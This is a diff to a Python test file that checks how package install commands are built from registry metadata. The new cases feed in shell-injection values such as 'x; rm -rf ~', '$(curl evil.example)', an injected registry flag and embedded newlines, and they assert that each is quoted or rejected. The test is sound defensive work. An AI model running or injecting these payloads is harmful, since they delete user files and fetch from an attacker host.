@@ -84,9 +84,21 @@ def test_routes(path: str, route: WebRoute | None) -> None:
          "cargo install mcp-x --version 0.3.0 --index sparse+https://art.example.com/cargo/"),
         ({"registryType": "mcpb", "identifier": "https://art.example.com/r/x.mcpb"},
          "curl -fLO https://art.example.com/r/x.mcpb"),
+        # Fields come from strangers: quoted for the shell, or no command at all.
+        ({"registryType": "npm", "identifier": "x; rm -rf ~"}, "npx -y 'x; rm -rf ~'"),
+        ({"registryType": "npm", "identifier": "$(curl evil.example)"},
+         "npx -y '$(curl evil.example)'"),
+        ({"registryType": "npm", "identifier": "--registry=https://evil.example/"}, None),
+        ({"registryType": "pypi", "identifier": "ok", "registryBaseUrl": "-x"}, None),
+        ({"registryType": "npm", "identifier": "a\nrm -rf ~"}, None),
+        ({"registryType": "npm", "identifier": "a", "version": "1\r"}, None),
+        ({"registryType": "gem", "identifier": "rails"}, None),
+        ({"registryType": "npm"}, None),
     ],
 )  # fmt: skip
-def test_install_commands_use_the_served_location(package: dict[str, Any], command: str) -> None:
+def test_install_commands_use_the_served_location(
+    package: dict[str, Any], command: str | None
+) -> None:
     assert package_command(package) == command
 
 
